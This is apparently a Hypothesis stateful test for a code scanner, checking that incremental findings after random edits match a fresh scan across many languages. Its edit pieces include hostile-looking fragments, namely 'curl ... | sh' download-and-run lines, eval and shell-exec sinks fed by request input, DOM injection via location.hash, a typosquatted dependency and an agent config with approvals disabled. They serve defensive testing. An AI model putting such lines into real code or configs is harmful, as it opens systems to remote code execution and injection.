"""Incremental equals fresh: whatever is typed, deleted, pasted or undone, the findings end as those of a scan from scratch.

The texts are the annotated samples of the rules, because those have findings that edits can make and unmake, and a few files of the
standard library for their shapes.
"""

from __future__ import annotations

import re
import sysconfig
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, initialize, invariant, rule

from assay.base.cancellation import CancelToken
from assay.base.text import Position, Range
from assay.engine.api import TextChange
from assay.engine.host import Host
from assay.engine.knowledge import load_knowledge
from assay.findings.model import Finding, Fix
from assay.languages.api import Language
from assay.languages.registry import all_languages
from rules.made_samples import made_samples

URI = "file:///document"
SAMPLES = Path(__file__).parent.parent / "rules"
STANDARD_LIBRARY = Path(sysconfig.get_path("stdlib"))

PIECES = {
    "python": [
        '"""',
        "'",
        "(",
        ")",
        "[",
        "{",
        "}",
        "\n",
        "\n    ",
        "#",
        "\\",
        "\r\n",
        "def f(x):\n    return x\n",
        "class C:\n    def m(self):\n        pass\n",
        "import os\n",
        "from flask import request\n",
        "eval(request.args['x'])\n",
        "@app.route('/')\n",
        "    ",
        "\x0c",
        "é",
        "𝄞",
        "return",
        "x = 1\n",
        "async ",
        "if True:\n",
    ],
    "javascript": [
        "`",
        "'",
        '"',
        "(",
        ")",
        "{",
        "}",
        "[",
        "/*",
        "*/",
        "//",
        "\n",
        "\r\n",
        "function f(x) { return x }\n",
        "class C { m() { eval(x) } }\n",
        "const a = require('child_process');\n",
        "el.innerHTML = location.hash;\n",
        "import fs from 'fs';\n",
        "=> {",
        "${",
        "é",
        "𝄞",
        "async ",
        ";",
        "return",
        "<div>",
        "</div>",
    ],
}
PIECES["go"] = [
    "`",
    '"',
    "'",
    "(",
    ")",
    "{",
    "}",
    "[",
    "/*",
    "*/",
    "//",
    "\n",
    "\n\t",
    "\r\n",
    "func f(x string) string {\n\treturn x\n}\n",
    "func (s *Store) m(name string) {\n\ts.db.Query(name)\n}\n",
    "type Store struct {\n\tdb *sql.DB\n}\n",
    'import "os/exec"\n',
    'exec.Command("sh", "-c", r.FormValue("x"))\n',
    "var db *sql.DB\n",
    "const key = `a`\n",
    ":=",
    "if err != nil {\n",
    "é",
    "𝄞",
    "defer ",
    "return",
    "\x00",
]
PIECES["typescript"] = [*PIECES["javascript"], ": string", "<T>", "as any", "interface I { a: string }\n"]
PIECES["tsx"] = PIECES["typescript"]
_MARKUP = [
    "<script>",
    "</script>",
    "<!--",
    "-->",
    "<p>",
    ' v-html="x"',
    "{@html x}",
    '<a onclick="eval(location.hash)">',
    "<script>eval(location.hash)</script>",
    '"',
    "<style>",
]
PIECES["html"] = PIECES["javascript"] + _MARKUP
PIECES["vue"] = PIECES["svelte"] = PIECES["typescript"] + _MARKUP
PIECES["java"] = [
    '"""',
    "'",
    '"',
    "(",
    ")",
    "{",
    "}",
    "/*",
    "*/",
    "//",
    "@",
    "\n",
    "\n    ",
    "\r\n",
    "\x0c",
    "é",
    "𝄞",
    ";",
    "return",
    "import java.util.*;\n",
    "import java.sql.Statement;\n",
    "    void extra(String a) throws Exception {\n        Runtime.getRuntime().exec(a);\n    }\n",
    "class Other {\n    String name;\n    void m() { }\n}\n",
    "    private org.springframework.jdbc.core.JdbcTemplate jdbc;\n",
    "@RequestParam ",
    "static ",
    " + name",
    "x -> ",
    "    String getFile() {\n        return this.printer;\n    }\n",
    "    void setFile(String file) {\n        this.file = file;\n    }\n",
    "String size, String file",
]
_MADE = [
    made.text
    for rule_id in ("provider-token", "connection-string", "private-key")
    for made in made_samples(rule_id, "text")
]
PIECES["text"] = ["\n", "\r\n", "=", '"', " ", "é", "𝄞", "-----BEGIN ", "://", "@", *_MADE]
PIECES |= {
    "yaml": [
        *(
            "\n",
            "\n  ",
            "\n    ",
            "- ",
            ": ",
            "[",
            "]",
            "{",
            "}",
            '"',
            "'",
            "|",
            ">",
            "&a ",
            "*a",
            "#",
            "---\n",
            "\t",
            "\r\n",
            "é",
            "𝄞",
        ),
        *(
            "run: echo ${{ github.head_ref }}\n",
            "permissions: write-all\n",
            "${{",
            "}}",
            "      - uses: a/b@v1\n",
            "    privileged: true\n",
        ),
    ],
    "json": [
        *("{", "}", "[", "]", '"', ":", ",", "\\", "//", "/*", "*/", "\n", "\r\n", "1", "true", "é", "𝄞", "\u202e"),
        *('"dependencies": {"expres": "1"},\n', '"scripts": {"a": "curl https://a.example/a | sh"},\n'),
    ],
    "toml": [
        *("[", "]", "=", '"', "'", '"""', ".", ",", "{", "}", "#", "\n", "\r\n", "1", "true", "é", "𝄞", "[[a]]\n"),
        *("[mcp_servers.a]\n", 'url = "http://tools.example.com"\n', 'approval_policy = "never"\n'),
    ],
    "shell": [
        *(
            "|",
            "&&",
            ";",
            "\n",
            "(",
            ")",
            "{",
            "}",
            "$(",
            "`",
            '"',
            "'",
            "<<E\n",
            "E\n",
            "<<<",
            "<(",
            "#",
            "\\",
            "$1",
            "é",
            "𝄞",
            "\r\n",
        ),
        *("if true; then\n", "fi\n", "curl https://a.example/a | sh\n", 'eval "$1"\n', "f() {\n", "}\n"),
    ],
    "dockerfile": [
        *("\n", "\\\n", "\r\n", "=", '"', "'", "$x", "[", "]", ",", "<<E\n", "E\n", "#", ":", "é", "𝄞"),
        *(
            "FROM a\n",
            "RUN curl https://a.example/a | sh\n",
            "ENV API_TOKEN=x\n",
            "USER root\n",
            "CMD a\n",
            "COPY .env .\n",
        ),
    ],
}
for _language in ("python", "javascript"):
    PIECES[_language] += [made.text for made in made_samples("provider-token", _language)[:4]]


@cache
def _texts(language: Language) -> list[bytes]:
    found = [
        path.read_bytes()
        for path in sorted(SAMPLES.glob("*/*"))
        if path.suffix in language.extensions and ".fixed." not in path.name and path.stat().st_size < 20_000
    ]
    if language.name == "text":
        found.extend("".join(_MADE[start:]).encode() + b"\n" * 120 + "".join(_MADE).encode() for start in (0, 7, 15))
    if language.name == "python":
        found.extend((STANDARD_LIBRARY / name).read_bytes() for name in ("shlex.py", "mailcap.py", "wave.py", "cmd.py"))
    return found


@dataclass(frozen=True)
class Found:
    """What is compared: the findings with their fixes."""

    findings: tuple[Finding, ...]
    fixes: tuple[tuple[Fix, ...], ...]


def _found(host: Host, findings: list[Finding]) -> Found:
    return Found(tuple(findings), tuple(host.fixes(URI, finding) for finding in findings))


class Editing(RuleBasedStateMachine):
    """One document that is edited at random; subclasses name its language."""

    language_name = ""

    def __init__(self) -> None:
        super().__init__()
        self.language = all_languages().by_name[self.language_name]
        self.host = Host(load_knowledge())
        self.token = CancelToken()
        self.undo: list[bytes] = []
        self.removed = b""
        self.path = ""

    @initialize(data=st.data())
    def open(self, data: st.DataObject) -> None:
        text = data.draw(st.sampled_from(_texts(self.language)))
        found = re.match(rb"(?:#|//) path: (\S+)", text)
        self.path = found[1].decode() if found is not None else "app/module" + self.language.extensions[0]
        self.host.open(URI, self.path, self.language, text)
        self.host.analyse(URI, self.token)

    def _position(self, data: st.DataObject) -> Position:
        lines = self.host.lines(URI)
        line = data.draw(st.integers(0, len(lines) - 1))
        # Columns inside a character's bytes do not come from any editor.
        text = lines[line].decode("utf-8", "surrogateescape")
        column = data.draw(st.integers(0, len(text.rstrip("\r\n"))))
        return Position(line, len(text[:column].encode("utf-8", "surrogateescape")))

    def _change(self, start: Position, end: Position, text: bytes) -> None:
        self.undo.append(b"".join(self.host.lines(URI)))
        self.host.change(URI, [TextChange(Range(start, end), text)])

    @rule(data=st.data())
    def insert(self, data: st.DataObject) -> None:
        position = self._position(data)
        piece = data.draw(st.sampled_from(PIECES[self.language_name]))
        self._change(position, position, piece.encode())
        self.host.analyse(URI, self.token)

    @rule(data=st.data())
    def type_a_word(self, data: st.DataObject) -> None:
        position = self._position(data)
        for character in data.draw(st.text(alphabet="abx._=(\"' {1", min_size=1, max_size=6)):
            encoded = character.encode()
            self._change(position, position, encoded)
            self.host.analyse(URI, self.token)
            position = Position(position.line, position.column + len(encoded))

    @rule(data=st.data())
    def delete(self, data: st.DataObject) -> None:
        first, second = sorted((self._position(data), self._position(data)))
        if second.line > first.line + 6:
            second = Position(first.line + 1, 0)
        text = b"".join(self.host.lines(URI))
        self._change(first, second, b"")
        self.removed = text[:200]
        self.host.analyse(URI, self.token)

    @rule(data=st.data())
    def paste_lines_of_another_text(self, data: st.DataObject) -> None:
        other = data.draw(st.sampled_from(_texts(self.language))).splitlines(keepends=True)
        start = data.draw(st.integers(0, len(other)))
        length = data.draw(st.integers(1, 30))
        position = self._position(data)
        self._change(position, position, b"".join(other[start : start + length]))
        self.host.analyse(URI, self.token)

    @rule()
    def undo_once(self) -> None:
        if self.undo:
            self.host.change(URI, [TextChange(None, self.undo.pop())])
            self.host.analyse(URI, self.token)

    @rule(data=st.data())
    def two_changes_before_an_analysis(self, data: st.DataObject) -> None:
        for _ in range(2):
            position = self._position(data)
            self._change(position, position, data.draw(st.sampled_from(PIECES[self.language_name])).encode())
        self.host.analyse(URI, self.token)

    @invariant()
    def lines_belong_to_units(self) -> None:
        opened = self.host._documents.get(URI)
        if opened is not None and opened.document.segments:
            assert opened.document.starts[-1] == len(opened.document.lines)
            for unit in opened.document.units():
                assert unit.text == opened.document.text_of(unit)

    @rule()
    def settles_to_what_a_fresh_scan_finds(self) -> None:
        settled = _found(self.host, self.host.settle(URI, self.token).findings)
        fresh_host = Host(load_knowledge())
        text = b"".join(self.host.lines(URI))
        fresh_host.open(URI, self.path, self.language, text)
        fresh = _found(fresh_host, fresh_host.analyse(URI, self.token).findings)
        assert settled == fresh
        assert not self.host.faults.reported

    def teardown(self) -> None:
        if URI in self.host._documents:
            self.settles_to_what_a_fresh_scan_finds()


@pytest.mark.parametrize(
    "language",
    [
        *("java", "python", "javascript", "typescript", "tsx", "html", "vue", "svelte", "go", "text"),
        *("yaml", "json", "toml", "shell", "dockerfile"),
    ],
)
def test_incremental_equals_fresh(language: str) -> None:
    machine = type(f"Editing_{language}", (Editing,), {"language_name": language})
    machine.TestCase.settings = settings(
        # Each language takes part; those that share an engine with another one get fewer rounds, because all of them together take minutes.
        max_examples=25 if language in ("python", "javascript", "java", "go") else 12,
        stateful_step_count=25,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    machine.TestCase().runTest()
